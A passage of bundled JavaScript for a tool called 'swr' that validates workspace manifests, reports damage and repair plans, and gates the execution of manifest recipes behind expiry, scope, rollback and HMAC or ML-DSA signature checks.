        const name = typeof entry?.id === 'string' ? `entry ${quoted(entry.id)}` : `entry #${Number(m[1]) + 1}`;
        const field = (m[2] ?? '').slice(1).replace(/\//g, '.');
        return `${loc}: ${name}${field ? ` field ${field}` : ''}`;
    }
    const field = pointer.slice(1).replace(/\//g, '.');
    return `${loc}: ${field ? `field ${field}` : 'document'}`;
}
function schemaProblems(doc, errors, where) {
    const out = [];
    for (const e of errors) {
        // if/then failures only repeat the error found inside the branch.
        if (e.keyword === 'if')
            continue;
        const params = e.params;
        let pointer = e.instancePath;
        let text;
        switch (e.keyword) {
            case 'additionalProperties':
            case 'unevaluatedProperties': {
                const key = String(params.additionalProperty ?? params.unevaluatedProperty);
                pointer = `${pointer}/${key}`;
                text = 'is not a known field';
                break;
            }
            case 'required':
                pointer = `${pointer}/${String(params.missingProperty)}`;
                text = 'is required';
                break;
            case 'pattern':
                text = `must match ${String(params.pattern)}`;
                break;
            case 'enum':
                text = `must be one of ${JSON.stringify(params.allowedValues)}`;
                break;
            case 'const':
                text = `must be ${JSON.stringify(params.allowedValue)}`;
                break;
            default:
                text = e.message ?? e.keyword;
        }
        const line = `${subject(doc, pointer, where)} ${text}`;
        if (!out.includes(line))
            out.push(line);
    }
    return out;
}
function ruleProblems(doc, where) {
    const out = [];
    const at = (i, field) => subject(doc, `/body/entries/${i}${field ? `/${field}` : ''}`, where);
    const body = doc.body;
    for (const key of ['created', 'expires']) {
        const v = body[key];
        if (v !== undefined && !isRealDate(v)) {
            out.push(`${subject(doc, `/body/${key}`, where)} is not a real date: ${v}`);
        }
    }
    const ids = new Map();
    const paths = new Map();
    body.entries.forEach((e, i) => {
        if (ids.has(e.id))
            out.push(`${at(i, 'id')} duplicates entry #${(ids.get(e.id) ?? 0) + 1}`);
        ids.set(e.id, i);
        const problem = pathProblem(e.path);
        if (problem)
            out.push(`${at(i, 'path')} ${problem}`);
        const other = paths.get(e.path);
        if (other !== undefined)
            out.push(`${at(i, 'path')} is also the path of entry ${quoted(other)}`);
        paths.set(e.path, e.id);
        out.push(...kindProblems(e).map(p => `${at(i, p.field)} ${p.text}`));
    });
    body.entries.forEach((e, i) => {
        for (const need of e.needs) {
            if (need === e.id)
                out.push(`${at(i, 'needs')} names the entry itself`);
            else if (!ids.has(need))
                out.push(`${at(i, 'needs')} names unknown entry ${quoted(need)}`);
        }
    });
    const cycle = findCycle(body.entries);
    if (cycle)
        out.push(`${where.file}: dependency cycle: ${cycle.join(' -> ')}`);
    return out;
}
function kindProblems(e) {
    if (e.kind !== 'tree')
        return [];
    const out = [];
    e.expect.sentinels.forEach((s, k) => {
        const problem = innerPathProblem(s);
        if (problem)
            out.push({ field: `expect/sentinels/${k}`, text: problem });
    });
    for (const [k, text] of ruleSetProblems(e.ignore))
        out.push({ field: `ignore/${k}`, text });
    if (e.expect.max_files !== undefined && e.expect.min_files > e.expect.max_files) {
        out.push({ field: 'expect/min_files', text: `is above max_files (${e.expect.max_files})` });
    }
    return out;
}
/** The first `needs` cycle found, as ids from start back to start, or undefined. Iterative, so a
 * chain of 10,000 entries cannot overflow the stack. */
function findCycle(entries) {
    const needs = new Map(entries.map(e => [e.id, e.needs]));
    const state = new Map();
    for (const start of entries) {
        if (state.has(start.id))
            continue;
        const trail = [start.id];
        const cursor = [0];
        state.set(start.id, 'open');
        while (trail.length > 0) {
            const id = trail[trail.length - 1];
            const next = (needs.get(id) ?? [])[cursor[cursor.length - 1]];
            if (next === undefined) {
                state.set(id, 'done');
                trail.pop();
                cursor.pop();
                continue;
            }
            cursor[cursor.length - 1] = cursor[cursor.length - 1] + 1;
            if (!needs.has(next) || state.get(next) === 'done')
                continue;
            if (state.get(next) === 'open')
                return [...trail.slice(trail.indexOf(next)), next];
            state.set(next, 'open');
            trail.push(next);
            cursor.push(0);
        }
    }
    return undefined;
}
/** True for a timestamp whose fields name a real instant (Date.parse rolls 2026-02-30 over). */
function isRealDate(v) {
    const t = Date.parse(v);
    if (Number.isNaN(t))
        return false;
    return new Date(t).toISOString().slice(0, 19) === v.slice(0, 19);
}

;// CONCATENATED MODULE: ./src/core/manifest/load.ts
/**
 * Reading a manifest: bounded read, strict parse, format detection (3, or the original tool's 2),
 * validation, digest, and the workspace it describes. Nothing here runs or writes anything.
 */








/** Read and judge the manifest at `file`; throws ManifestError naming every problem. */
function loadManifest(file, opts = {}) {
    const abs = external_node_path_default().resolve(opts.cwd ?? process.cwd(), file);
    const shown = external_node_path_default().relative(opts.cwd ?? process.cwd(), abs) || abs;
    const text = readBounded(abs, shown);
    const { doc, format, lines, notes } = parseManifestText(text, shown);
    const workspace = resolveWorkspace(abs, doc.body.workspace, opts);
    return {
        file: abs,
        format,
        doc,
        body: doc.body,
        digest: manifestDigest(doc.body),
        workspace,
        lines,
        notes
    };
}
/** Strict parse, format detection and validation of manifest text; `shown` names it in messages. */
function parseManifestText(text, shown) {
    let parsed;
    try {
        parsed = parseStrictJson(text);
    }
    catch (err) {
        if (err instanceof StrictJsonError) {
            throw new ManifestError(`${shown}:${err.problems[0]}`, err.problems.map(p => `${shown}:${p}`));
        }
        throw err;
    }
    const notes = [];
    let doc;
    let format;
    if (isV2Document(parsed.value)) {
        const converted = convertV2(parsed.value, shown);
        doc = converted.doc;
        notes.push(...converted.notes);
        format = 2;
    }
    else {
        doc = parsed.value;
        format = 3;
    }
    const problems = manifestProblems(doc, {
        lines: format === 3 ? parsed.lines : new Map(),
        file: shown
    });
    if (problems.length > 0) {
        const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
        throw new ManifestError(`${problems[0]}${more}`, problems);
    }
    const lines = new Map();
    doc.body.entries.forEach((e, i) => {
        const line = parsed.lines.get(`$.body.entries[${i}]`) ?? parsed.lines.get(`$.entries[${i}]`);
        if (line !== undefined)
            lines.set(e.id, line);
    });
    return { doc, format, lines, notes };
}
function readBounded(abs, shown) {
    let fd;
    try {
        // O_NONBLOCK: a FIFO planted at the manifest path must not hang the tool.
        fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NONBLOCK);
    }
    catch (err) {
        const code = errnoCode(err);
        if (code === 'ENOENT')
            throw new ManifestError(`${shown}: no such manifest (run "swr init" or "swr add PATH")`);
        throw new ManifestError(`${shown}: cannot open (${code ?? String(err)})`);
    }
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile())
            throw new ManifestError(`${shown}: not a regular file`);
        if (st.size > DEFAULT_LIMITS.maxBytes) {
            throw new ManifestError(`${shown}: ${st.size} bytes, over the ${DEFAULT_LIMITS.maxBytes}-byte manifest limit`);
        }
        const buf = Buffer.alloc(st.size);
        let got = 0;
        while (got < st.size) {
            const n = external_node_fs_default().readSync(fd, buf, got, st.size - got, got);
            if (n === 0)
                break;
            got += n;
        }
        noteManifestBytes(abs, buf.subarray(0, got));
        const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
        try {
            return decoder.decode(buf.subarray(0, got)).replace(/^\uFEFF/, '');
        }
        catch {
            throw new ManifestError(`${shown}: not valid UTF-8`);
        }
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** The workspace: `--workspace`, else the manifest's (relative to the manifest's directory). */
function resolveWorkspace(manifestFile, declared, opts) {
    const base = opts.workspace
        ? external_node_path_default().resolve(opts.cwd ?? process.cwd(), opts.workspace)
        : external_node_path_default().resolve(external_node_path_default().dirname(manifestFile), declared);
    let real = base;
    try {
        real = external_node_fs_default().realpathSync(base);
    }
    catch {
        // A missing workspace is a finding for the check (everything MISSING), not a load error.
    }
    if (real === '/' || base === '/') {
        throw new ManifestError(`workspace "/" is refused: describe a directory, not the whole machine`);
    }
    return real;
}

;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
/**
 * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
 * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
 * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
 */


const MANIFEST_DIR = '.swr';
const MANIFEST_NAME = 'manifest.json';
/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
function locateManifest(input) {
    if (input.flag)
        return { file: external_node_path_default().resolve(input.cwd, input.flag), how: 'flag' };
    if (input.env)
        return { file: external_node_path_default().resolve(input.cwd, input.env), how: 'env' };
    for (let dir = external_node_path_default().resolve(input.cwd);; dir = external_node_path_default().dirname(dir)) {
        const candidate = external_node_path_default().join(dir, MANIFEST_DIR, MANIFEST_NAME);
        if (external_node_fs_default().existsSync(candidate))
            return { file: candidate, how: 'found' };
        if (dir === external_node_path_default().dirname(dir))
            break;
    }
    const home = external_node_path_default().join(input.home, MANIFEST_DIR, MANIFEST_NAME);
    if (external_node_fs_default().existsSync(home))
        return { file: home, how: 'home' };
    return { file: external_node_path_default().join(external_node_path_default().resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
}

;// CONCATENATED MODULE: ./src/core/manifest/write.ts
/**
 * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
 * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
 */





const SCHEMA_URL = 'https://swr.dev/schema/manifest-v3.schema.json';
/** The workspace as the manifest records it: relative when the manifest sits inside it. */
function spellWorkspace(manifestFile, workspace) {
    const dir = external_node_path_default().dirname(external_node_path_default().resolve(manifestFile));
    if (isInside(workspace, dir))
        return external_node_path_default().relative(dir, workspace) || '.';
    return workspace;
}
function newDocument(manifestFile, workspace, now) {
    return {
        $schema: SCHEMA_URL,
        body: {
            schema: 3,
            version: 1,
            workspace: spellWorkspace(manifestFile, workspace),
            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
            entries: []
        },
        signatures: []
    };
}
const ENTRY_KEYS = [
    'id',
    'kind',
    'path',
    'tier',
    'needs',
    'restore',
    'timeout_s',
    'env',
    'secret_env',
    'smoke',
    'note',
    'ignore',
    'expect',
    'escrow'
];
function orderEntry(e) {
    const src = e;
    const out = {};
    for (const k of ENTRY_KEYS)
        if (src[k] !== undefined)
            out[k] = src[k];
    // Fields without a place in the order keep theirs after the known ones: never drop data.
    for (const [k, v] of Object.entries(src))
        if (!(k in out) && v !== undefined)
            out[k] = v;
    return out;
}
function serializeDocument(doc) {
    const body = {
        schema: 3,
        version: doc.body.version,
        workspace: doc.body.workspace,
        created: doc.body.created,
        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
        entries: doc.body.entries.map(orderEntry)
    };
    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
}
function saveManifest(file, doc, opts = {}) {
    if (!opts.create)
        assertUnchangedSinceRead(file);
    external_node_fs_default().mkdirSync(external_node_path_default().dirname(file), { recursive: true });
    for (const [p, bytes] of opts.sidecars ?? []) {
        external_node_fs_default().mkdirSync(external_node_path_default().dirname(p), { recursive: true });
        writeFileAtomic(p, bytes);
    }
    const bytes = Buffer.from(serializeDocument(doc), 'utf8');
    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
    noteManifestBytes(file, bytes);
}

// EXTERNAL MODULE: external "node:util"
var external_node_util_ = __nccwpck_require__(7975);
;// CONCATENATED MODULE: ./src/core/report/text.ts
/**
 * Human output of a check: one aligned, greppable line per entry (status first), the files a tree
 * lost or gained, a summary, the wipe signature and the command that repairs the damage. Colour is
 * the caller's choice (TTY and NO_COLOR are decided in the shell).
 */


const COLORS = {
    OK: 'green',
    MISSING: 'red',
    CORRUPT: 'red',
    STRIPPED: 'yellow',
    EMPTY: 'red',
    BROKENLNK: 'red',
    TYPE: 'red',
    SKIPPED: 'gray',
    SMOKEFAIL: 'red'
};
function paint(on, style, s) {
    return on ? (0,external_node_util_.styleText)(style, s) : s;
}
function pad(s, n) {
    return s.length >= n ? s : s + ' '.repeat(n - s.length);
}
/** One line per finding: `STATUS   id   path   detail`. */
function findingLines(findings, opts) {
    const idW = Math.min(32, Math.max(2, ...findings.map(f => escapeText(f.id).length)));
    const pathW = Math.min(40, Math.max(4, ...findings.map(f => escapeText(f.path).length)));
    const out = [];
    for (const f of findings) {
        const status = paint(opts.color, COLORS[f.status], pad(f.status, 9));
        const path = escapeText(f.path);
        const p = path.length > pathW ? '…' + path.slice(-(pathW - 1)) : path;
        out.push(`  ${status} ${pad(escapeText(f.id), idW)}  ${pad(p, pathW)}  ${escapeText(f.detail)}`);
        if (f.files) {
            const d = f.files;
            const more = (shown, total) => total > shown ? [`      ... ${total - shown} more`] : [];
            for (const m of d.missing.slice(0, 5))
                out.push(`      - ${escapeText(m)}`);
            out.push(...more(Math.min(5, d.missing.length), d.counts.missing));
            for (const x of d.extra.slice(0, 5))
                out.push(`      + ${escapeText(x)}`);
            out.push(...more(Math.min(5, d.extra.length), d.counts.extra));
            for (const c of d.changed.slice(0, 5))
                out.push(`      ~ ${escapeText(c.path)} (${escapeText(c.what)})`);
            out.push(...more(Math.min(5, d.changed.length), d.counts.changed));
        }
    }
    return out;
}
function renderCheck(r, opts) {
    const lines = [];
    const shown = opts.all ? r.results : r.results.filter(f => f.status !== 'OK');
    lines.push(...findingLines(shown, opts));
    const s = r.summary;
    const verdict = s.damaged === 0
        ? paint(opts.color, 'green', `${s.ok}/${s.entries} healthy`)
        : paint(opts.color, 'red', `${s.ok}/${s.entries} healthy, ${s.damaged} damaged`);
    lines.push(`${verdict}  (${r.timing.ms} ms${r.results.some(f => f.cached) ? ', cache used' : ''})`);
    if (s.damaged > 0) {
        lines.push(`wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}: ${escapeText(r.diagnosis.cause)}`);
        const ids = r.results.filter(f => f.status !== 'OK').map(f => escapeText(f.id));
        lines.push(`why: swr why${ids.length <= 3 ? ` --only ${ids.join(' ')}` : ''}`);
        lines.push(...fixLines(r));
    }
    for (const n of r.notes)
        lines.push(paint(opts.color, 'gray', `note: ${escapeText(n)}`));
    return lines.join('\n') + '\n';
}
/**
 * The summary's fix: `swr restore` only for root causes that have a way back (their consequences
 * heal with them), and the entries that have none named as such instead of sent to a dead end.
 */
function fixLines(r) {
    const roots = r.diagnosis.advice.filter(a => a.because === undefined);
    const can = roots.filter(a => a.restorable !== false).map(a => escapeText(a.id));
    const cannot = roots.filter(a => a.restorable === false).map(a => escapeText(a.id));
    const out = [];
    if (can.length > 0)
        out.push(`fix: swr restore${can.length <= 3 ? ` --only ${can.join(' ')}` : ''}   (or: swr doctor)`);
    if (cannot.length > 0) {
        const list = cannot.length <= 5 ? cannot.join(', ') : `${cannot.slice(0, 5).join(', ')}, ...`;
        out.push(`no way back recorded for ${cannot.length}: ${list}  (swr why says what to do)`);
    }
    return out;
}
function renderWhy(r, opts, notes, history = new Map()) {
    const damaged = r.results.filter(f => f.status !== 'OK');
    if (damaged.length === 0)
        return (paint(opts.color, 'green', `${r.summary.entries}/${r.summary.entries} healthy: nothing to explain`) + '\n');
    const lines = [
        `wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}`,
        `  ${escapeText(r.diagnosis.cause)}`,
        ''
    ];
    for (const f of damaged) {
        const advice = r.diagnosis.advice.find(a => a.id === f.id);
        lines.push(`${paint(opts.color, COLORS[f.status], f.status)} ${escapeText(f.id)}  (${f.kind}, tier ${f.tier}, ${escapeText(f.path)})`);
        lines.push(`  found:    ${escapeText(f.detail)}`);
        lines.push(`  recorded: ${show(f.recorded)}`);
        lines.push(`  now:      ${show(f.found)}`);
        if (advice) {
            lines.push(`  cause:    ${escapeText(advice.cause)}`);
            lines.push(`  fix:      ${escapeText(advice.fix)}`);
        }
        const note = notes.get(f.id);
        if (note)
            lines.push(`  note:     ${escapeText(note)}`);
        const past = history.get(f.id);
        if (past)
            lines.push(`  history:  ${escapeText(past)}`);
        lines.push('');
    }
    return lines.join('\n');
}
function show(v) {
    return Object.entries(v)
        .map(([k, x]) => `${k}=${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : escapeText(String(x))}`)
        .join(' ');
}
/** The plan, wave by wave, with the reason for each step. */
function renderPlan(waves, opts) {
    if (waves.length === 0)
        return 'nothing to repair\n';
    const lines = [];
    let n = 0;
    const total = waves.reduce((s, w) => s + w.length, 0);
    waves.forEach((wave, w) => {
        for (const s of wave) {
            n++;
            const src = s.source === 'none' ? paint(opts.color, 'red', 'no recipe') : escapeText(s.source);
            const after = s.after.length > 0 ? ` after ${s.after.map(x => escapeText(x)).join(', ')}` : '';
            const par = wave.length > 1 ? ` (wave ${w + 1}, parallel)` : '';
            lines.push(`  [${n}/${total}] tier ${s.tier} ${escapeText(s.id)} <- ${src}${after}${par}`);
            lines.push(`        ${escapeText(s.reason)}`);
        }
    });
    return lines.join('\n') + '\n';
}
const OUTCOME_STYLE = {
    repaired: 'green',
    'already-repaired': 'green',
    'still-damaged': 'red',
    failed: 'red',
    skipped: 'yellow',
    unrepairable: 'red',
    interrupted: 'yellow'
};
function renderStep(r, opts) {
    const line = `  ${paint(opts.color, OUTCOME_STYLE[r.outcome], r.outcome.padEnd(14))} ${r.id}  ${r.detail}\n`;
    return line + quarantineLine(r.quarantine);
}
function quarantineLine(q) {
    if (!q)
        return '';
    if ('skipped' in q)
        return `      quarantine: ${q.skipped}\n`;
    const pruned = q.pruned
        ? `; pruned ${q.pruned.removed} older cop${q.pruned.removed === 1 ? 'y' : 'ies'} (${q.pruned.bytes} bytes)`
        : '';
    return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
}

;// CONCATENATED MODULE: ./src/core/index.ts
/**
 * The swr engine, shared by the CLI and the GitHub Action:
 *
 *   load (strict parse, schema, rules, digest)
 *     -> verify (one verifier per kind; one hash pool; incremental cache)
 *     -> diagnose (wipe signature, cause and fix per entry)
 *     -> report (JSON, text)
 *
 * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
 */















;// CONCATENATED MODULE: ./src/version.ts
/** The swr version; a test keeps it equal to package.json's. */
const VERSION = '0.1.0';

// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var picomatch = __nccwpck_require__(4006);
var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
/**
 * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
 * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
 * type, and with it the manifest format and the signature-format version:
 *   "DSSEv1" SP len(type) SP type SP len(body) SP body
 */

const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
/** DSSE pre-authentication encoding of `payload` under `type`. */
function pae(type, payload) {
    const t = Buffer.from(type, 'utf8');
    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
    return Buffer.concat([head, payload]);
}
/** The exact bytes every manifest signature covers. */
function envelope_signingInput(body, type = PAYLOAD_TYPE) {
    return pae(type, canonicalBytes(body));
}

;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
/**
 * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
 * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
 * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
 * never from the workspace. Comparison is constant-time.
 */

/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
function hmacKeyId(key) {
    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
}
function signHmac(key, input) {
    return {
        alg: 'hmac-sha256',
        keyid: hmacKeyId(key),
        sig: (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest('hex')
    };
}
function verifyHmac(key, input, sig) {
    if (!/^[0-9a-f]{64}$/.test(sig.sig))
        return false;
    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
}
/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
function parseHmacKey(text) {
    const t = text.trim();
    if (/^[0-9a-fA-F]{64}$/.test(t))
        return Buffer.from(t, 'hex');
    if (t.length >= 32)
        return Buffer.from(t, 'utf8');
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
/**
 * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
 * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
 * manifest never pays for it. The public key travels with the signature; its fingerprint is always
 * recomputed from the key, never read from the document.
 */

/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
const PUBLIC_KEY_BYTES = 2592;
const SIGNATURE_BYTES = 4627;
let loaded;
async function mldsa() {
    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
    return loaded;
}
/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
function fingerprint(publicKey) {
    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
}
/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
function groupFingerprint(fp) {
    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
}
function normalizeFingerprint(text) {
    const t = text.replace(/[\s:-]/g, '').toLowerCase();
    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
}
async function identityFromSeed(seed) {
    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
}
async function mldsa_signMldsa(id, input) {
    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
    return {
        alg: 'ml-dsa-87',
        keyid: id.fingerprint,
        public_key: Buffer.from(id.publicKey).toString('base64'),
        sig: Buffer.from(sig).toString('base64')
    };
}
/** Decoded key and signature, or undefined when either is malformed (never throws). */
function decodeMldsa(s) {
    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
    if (!b64.test(s.public_key) || !b64.test(s.sig))
        return undefined;
    const publicKey = Buffer.from(s.public_key, 'base64');
    const sig = Buffer.from(s.sig, 'base64');
    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
        return undefined;
    return { publicKey, sig };
}
async function verifyMldsa(publicKey, input, sig) {
    try {
        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
    }
    catch {
        return false;
    }
}

;// CONCATENATED MODULE: ./src/core/sign/gate.ts
/**
 * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
 * commands, exported scripts) may run. Every path that executes manifest content asks it first.
 *
 *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
 *
 * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
 * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
 * shells never pass anything but the default.
 */





const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
const ALL_DEFENSES = Object.freeze({
    signatures: true,
    trust: true,
    fingerprintFromKey: true,
    payloadType: true,
    expiry: true,
    scope: true,
    rollback: true
});
/** What the gate reads of a loaded manifest. */
function gateInput(m) {
    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
}
/** Each signature's state under `policy` (no decision). */
async function evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
    const out = [];
    for (const s of m.signatures) {
        if (s.alg === 'hmac-sha256') {
            if (!policy.hmacKey)
                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
            else {
                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
            }
            continue;
        }
        const decoded = decodeMldsa(s);
        if (!decoded) {
            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
            continue;
        }
        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
        const trusted = !defenses.trust || policy.trusted.has(fp);
        out.push({
            alg: s.alg,
            keyid: s.keyid,
            fingerprint: fp,
            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
        });
    }
    return out;
}
/** May this manifest's code run? */
async function decide(m, policy, defenses = ALL_DEFENSES) {
    const refuse = (reason, signatures = []) => ({
        allowed: false,
        reason,
        signatures,
        warnings: []
    });
    const body = m.body;
    if (defenses.expiry &&
        body.expires !== undefined &&
        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
    ) {
        return refuse(`manifest expired at ${body.expires}`);
    }
    if (defenses.scope) {
        const scopeProblem = checkScope(body, policy.run);
        if (scopeProblem)
            return refuse(scopeProblem);
    }
    if (defenses.rollback) {
        const rollback = checkRollback(body.version, m.digest, policy);
        if (rollback)
            return refuse(rollback);
    }
    if (policy.approveDigest !== undefined) {
        if (policy.approveDigest.toLowerCase() !== m.digest) {
            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
        }
        return {
            allowed: true,
            reason: 'signature requirement waived for this exact digest',
            signatures: await evaluateSignatures(m, policy, defenses),
            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
        };
    }
    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
    const states = await evaluateSignatures(m, policy, defenses);
    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
    const threshold = policy.threshold ?? 1;
    const mldsaOk = signers.size >= threshold;
    const need = describeNeed(policy.require, threshold);
    const ok = policy.require === 'any'
        ? hmacOk || mldsaOk
        : policy.require === 'hmac'
            ? hmacOk
            : policy.require === 'mldsa'
                ? mldsaOk
                : hmacOk && mldsaOk;
    if (!ok)
        return refuse(`${summarise(states, policy)}; ${need} required`, states);
    const by = [
        hmacOk ? 'HMAC' : '',
        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
    ].filter(Boolean);
    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
}
function describeNeed(r, threshold) {
    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
    switch (r) {
        case 'any':
            return `a valid HMAC or ${ml}`;
        case 'hmac':
            return 'a valid HMAC signature';
        case 'mldsa':
            return ml;
        case 'both':
            return `a valid HMAC and ${ml}`;
    }
}
function summarise(states, policy) {
    if (states.length === 0)
        return 'manifest is unsigned';
    const parts = states.map(s => {
        const who = s.alg === 'hmac-sha256'
            ? 'HMAC'
            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
        if (s.state === 'no-key')
            return `${who}: no HMAC key on this run`;
        if (s.state === 'invalid' &&
            s.alg === 'hmac-sha256' &&
            policy.hmacKey &&
            s.keyid !== hmacKeyId(policy.hmacKey)) {
            return `${who}: made with another key`;
        }
        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
    });
    return parts.join(', ');
}
function checkScope(body, run) {
    const scope = body.scope;
    if (!scope)
        return undefined;
    if (scope.repository !== undefined &&
        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
    }
    if (scope.ref !== undefined &&
        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
    }
    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
    }
    return undefined;
}
function checkRollback(version, digest, policy) {
    if (policy.minVersion !== undefined && version < policy.minVersion) {
        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
    }
    const r = policy.remembered;
    if (r && version < r.version) {
        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
    }
    if (r && version === r.version && digest !== r.digest) {
        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
/**
 * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
 * may change a signed manifest only when its signature verifies here, or when the user approved
 * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
 * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
 * accepting a signed version of it: then the missing signatures are treated as stripped.
 */


const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
async function authorizeEdit(m, policy, approveDigest) {
    if (approveDigest !== undefined) {
        if (approveDigest.toLowerCase() !== m.digest) {
            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, EXIT.UNREPAIRABLE);
        }
        return { resign: true, note: `approved digest ${m.digest}` };
    }
    if (m.doc.signatures.length === 0) {
        if (policy.remembered &&
            policy.remembered.signed !== false &&
            policy.remembered.digest !== m.digest) {
            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
        }
        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
    }
